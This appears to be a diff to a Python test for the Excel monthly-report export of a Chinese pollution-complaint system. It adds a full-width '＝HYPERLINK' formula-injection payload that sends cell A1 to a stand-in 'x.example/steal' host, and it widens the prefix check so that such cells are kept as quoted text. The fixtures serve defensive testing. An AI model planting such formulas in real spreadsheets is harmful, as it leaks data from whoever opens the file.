@@ -32,6 +32,7 @@ PARTIES_OPEN311 = [
     '=HYPERLINK("http://x.example/steal?d="&A1,"点我查看")',
     "@SUM(1)",
     "-2+3",
+    '＝HYPERLINK("http://x.example/steal?d="&A1,"点我查看")',  # full-width, as a Chinese IME types it
 ]
 PARTIES_H5 = ["+86 某化工厂", "\t=1+1 某洗煤厂", "=1+1\r某***公司"]
 ANALYSIS = '=HYPERLINK("http://x.example","详情")\n本月接收举报，水污染问题集中。'
@@ -112,8 +113,10 @@ def test_hostile_text_reaches_the_monthly_report_excel_as_text(
     assert parties <= texts, parties - texts  # the reported parties, character for character
     assert addresses <= texts, addresses - texts
     assert lines(ANALYSIS.strip()) in texts
-    # Excel keeps a cell starting with = + - @ tab or CR as text even when a user edits it.
-    dangerous = [c for c in cells if isinstance(c.value, str) and c.value[:1] in "=+-@\t\r"]
+    # Excel keeps a cell starting with = + - @ tab or CR (or their full-width forms) as text even when a
+    # user edits it.
+    dangerous = [c for c in cells if isinstance(c.value, str) and c.value[:1] in "=+-@\t\r＝＋－＠"]
+    assert any(c.value.startswith("＝HYPERLINK") for c in dangerous)
     assert len(dangerous) >= len(parties) and all(c.quotePrefix for c in dangerous)
 
 
